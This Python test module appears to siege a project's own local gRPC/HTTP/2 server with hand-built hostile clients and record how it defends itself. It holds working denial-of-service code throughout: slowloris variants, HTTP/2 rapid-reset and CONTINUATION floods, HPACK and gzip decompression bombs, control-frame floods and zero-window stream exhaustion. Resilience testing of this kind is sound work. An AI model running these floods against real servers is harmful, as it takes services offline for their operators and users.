"""Hostile clients, each a coroutine that attacks one listener until cancelled and tallies what
the server did to it (connections closed, GOAWAY codes, answers, how long a slow connection lasted).

Every attack reconnects when the server closes it, so the pressure lasts as long as the siege.
Frames are made by hand (``tests/raw_http2.py``); HTTP/1.1 bytes are written raw.
"""

from __future__ import annotations

import contextlib
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

import hpack
import trio

from boxqueue.frontdoor.http2_codec import PREFACE, frame
from tests.raw_http2 import RawHttp2, message, request_head, settings

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
DECKARD_COUNT = "/blipai.deckard.Deckard/Count"
CONTINUATION, GOAWAY, PING = 9, 7, 6
# A flood's bursts are this far apart: the attacker runs on the server's own two cores, and an
# attacker that took a whole core would measure the machine, not the server. Each burst is still
# far past what the defences allow (the floods are ended within a few bursts).
PACE_S = 0.01


@dataclass
class Tally:
    connections: int = 0
    closed: int = 0  # connections the server ended
    goaways: Counter[int] = field(default_factory=Counter)  # GOAWAY error codes received
    lasted: list[float] = field(default_factory=list)  # how long each slow connection was kept
    ended: int = 0  # streams the server ended (trailers, or RST_STREAM)


async def workers(count: int, worker: Callable[..., Awaitable[None]], *args: object) -> None:
    async with trio.open_nursery() as nursery:
        for n in range(count):
            nursery.start_soon(worker, n, *args)


async def connect(port: int, tally: Tally) -> trio.SocketStream | None:
    try:
        stream = await trio.open_tcp_stream("127.0.0.1", port)
    except OSError:
        await trio.sleep(0.1)
        return None
    tally.connections += 1
    return stream


async def send(stream: trio.abc.Stream, data: bytes) -> bool:
    try:
        await stream.send_all(data)
        return True
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        return False


async def drain(stream: trio.abc.Stream, tally: Tally, timeout: float = 1e9) -> bool:
    """Read (and drop) what the server sends until it closes (True) or ``timeout`` passes,
    noting GOAWAY codes."""
    buffer = bytearray()
    with trio.move_on_after(timeout):
        while True:
            try:
                data = await stream.receive_some(65536)
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                data = b""
            if not data:
                tally.closed += 1
                return True
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                if buffer[3] == GOAWAY:
                    tally.goaways[int.from_bytes(buffer[13:17], "big")] += 1
                elif (buffer[3] == 1 and buffer[4] & 1) or buffer[3] == 3:  # trailers, RST_STREAM
                    tally.ended += 1
                del buffer[:9 + length]
    return False


# -- slowloris ---------------------------------------------------------------------------------

SLOW_HEAD = b"GET /slow HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"a" * 4000


async def http_slowloris(n: int, port: int, tally: Tally, first: bytes | None, every: float) -> None:
    """A head a byte every ``every`` seconds, on a new connection (``first`` None) or after one
    request answered on it."""
    while True:
        stream = await connect(port, tally)
        if stream is None:
            continue
        async with stream:
            if first is not None:
                await send(stream, first)
                with trio.move_on_after(5):
                    await stream.receive_some(65536)
            started = trio.current_time()
            for byte in SLOW_HEAD:
                if not await send(stream, bytes((byte,))):
                    break
                with trio.move_on_after(every):
                    try:
                        if not await stream.receive_some(65536):
                            break
                    except (trio.BrokenResourceError, trio.ClosedResourceError):
                        break
            tally.closed += 1
            tally.lasted.append(trio.current_time() - started)


async def grpc_slowloris(n: int, port: int, tally: Tally, every: float) -> None:
    """In turn: the preface a byte at a time; a frame a byte at a time; a head whose
    CONTINUATION frames never end."""
    encoder = hpack.Encoder()
    head = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", HEALTH_CHECK)])
    shapes = [b"", PREFACE + settings(), PREFACE + settings() + frame(1, 0, 1, head)]
    slow = [PREFACE, frame(PING, 0, 0, b"12345678"), frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y" * 20)]
    turn = n
    while True:
        shape = turn % 3
        turn += 1
        stream = await connect(port, tally)
        if stream is None:
            continue
        async with stream:
            await send(stream, shapes[shape])
            started = trio.current_time()
            async with trio.open_nursery() as nursery:
                nursery.start_soon(trickle, stream, slow[shape], every)
                await drain(stream, tally)
                nursery.cancel_scope.cancel()
            tally.lasted.append(trio.current_time() - started)


async def trickle(stream: trio.abc.Stream, data: bytes, every: float) -> None:
    for i in range(len(data)):
        if not await send(stream, data[i:i + 1]):
            return
        await trio.sleep(every)


# -- HTTP/2 floods -----------------------------------------------------------------------------

async def rapid_reset(n: int, port: int, tally: Tally) -> None:
    """Calls opened and reset at once, 50 to a write (health checks and Deckard's Count, a quick
    call on the engine), until the server ends the connection."""
    while True:
        stream = await connect(port, tally)
        if stream is None:
            continue
        async with stream, trio.open_nursery() as nursery:
            nursery.start_soon(reset_flood, stream)
            await drain(stream, tally)
            nursery.cancel_scope.cancel()


async def reset_flood(stream: trio.abc.Stream) -> None:
    """Heads made once per path (after its first use a head is two indexed bytes of HPACK), so
    the attacker spends its CPU on sending, not on encoding."""
    paths = [(HEALTH_CHECK, message(b"")), (DECKARD_COUNT, message(b"\x0a\x01q"))]
    burst = bytearray(PREFACE + settings())
    encoder = hpack.Encoder()
    first = {path: request_head(encoder, 0, path)[9:] for path, _ in paths}
    again = {path: request_head(encoder, 0, path)[9:] for path, _ in paths}
    for n, (path, body) in enumerate(paths):
        sid = 2 * n + 1
        burst += frame(1, 0x4, sid, first[path]) + frame(0, 0x1, sid, body) + RawHttp2.reset(sid)
    sid = 5
    while True:
        for _ in range(50):
            path, body = paths[(sid >> 1) % 2]
            burst += frame(1, 0x4, sid, again[path]) + frame(0, 0x1, sid, body) + RawHttp2.reset(sid)
            sid += 2
        if not await send(stream, bytes(burst)):
            return
        burst.clear()
        await trio.sleep(PACE_S)


def hpack_bomb_block() -> bytes:
    """A head that puts a 4 KiB field in the dynamic table (literal with incremental indexing)
    and then names it 2,000 times by its index (62): 8 MB once decoded, from 6 KB."""
    value = b"a" * 4000
    entry = b"\x40\x06x-bomb" + b"\x7f" + _varint(len(value) - 127) + value
    pseudo = hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", HEALTH_CHECK)])
    return frame(1, 0x5, 1, pseudo + entry + b"\xbe" * 2000)  # END_STREAM, END_HEADERS


def _varint(value: int) -> bytes:
    out = bytearray()
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


async def one_shot(n: int, port: int, tally: Tally, payload: Callable[[], bytes], pause: float = 0.05) -> None:
    """The same bytes on connection after connection, each read until the server closes it."""
    while True:
        stream = await connect(port, tally)
        if stream is None:
            continue
        async with stream:
            await send(stream, PREFACE + settings() + payload())
            await drain(stream, tally, timeout=10)
        await trio.sleep(pause)


def continuation_flood() -> bytes:
    """A head that never ends: 200 CONTINUATION frames of fields (the 2024 class), then more of
    them empty."""
    pseudo = hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", HEALTH_CHECK)])
    fields = b"\x40\x01x\x01y" * 150
    return frame(1, 0, 1, pseudo) + frame(CONTINUATION, 0, 1, fields) * 200 + frame(CONTINUATION, 0, 1) * 1000


def gzip_bombs() -> bytes:
    """127 health checks, each one 4 KiB gzip message that is 4 MiB of zeros; every other one
    never ends its stream (its message held)."""
    bomb = message(b"\x00" * (4 << 20), compressed=True)
    encoder = hpack.Encoder()
    out = bytearray()
    for i, sid in enumerate(range(1, 255, 2)):
        out += request_head(encoder, sid, HEALTH_CHECK, metadata=[("grpc-encoding", "gzip")])
        out += RawHttp2.data(sid, bomb, end=bool(i % 2))
    return bytes(out)


async def control_flood(n: int, port: int, tally: Tally) -> None:
    """PING and SETTINGS frames as fast as the server takes them, on a connection that reads
    nothing, then on one that reads."""
    burst = frame(PING, 0, 0, b"12345678") * 900 + settings((4, 65535)) * 100
    reading = bool(n % 2)
    while True:
        stream = await connect(port, tally)
        if stream is None:
            continue
        async with stream, trio.open_nursery() as nursery:
            nursery.start_soon(repeat, stream, PREFACE + settings(), burst)
            if reading:
                await drain(stream, tally)
            else:
                await trio.sleep(3)
            nursery.cancel_scope.cancel()


async def repeat(stream: trio.abc.Stream, first: bytes, burst: bytes) -> None:
    if await send(stream, first):
        while await send(stream, burst):
            await trio.sleep(PACE_S)


async def window_shut(n: int, port: int, tally: Tally) -> None:
    """A connection that sets its windows to 0 and opens 128 health checks whose answers can
    never be sent (and, every other one, reads nothing at all); kept open."""
    stream = await connect(port, tally)
    if stream is None:
        return
    raw = RawHttp2(stream)
    calls = b"".join(raw.head(sid, HEALTH_CHECK) + raw.data(sid, message(b""), end=True) for sid in range(1, 257, 2))
    async with stream:
        await send(stream, PREFACE + settings((4, 0)) + calls)
        if n % 2:
            await drain(stream, tally)
        else:
            await trio.sleep_forever()


# -- many connections --------------------------------------------------------------------------

async def idle(n: int, port: int, tally: Tally, greeting: bytes) -> None:
    """A connection that sends ``greeting`` (maybe nothing) and then nothing; opened again (a
    second later) when the server closes it."""
    await trio.sleep(n * 0.002)  # opened over a few seconds, not all at once
    while True:
        stream = await connect(port, tally)
        if stream is None:
            continue
        async with stream:
            with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError):
                await stream.send_all(greeting)
                while await stream.receive_some(65536):
                    pass
            tally.closed += 1
        await trio.sleep(1.0)
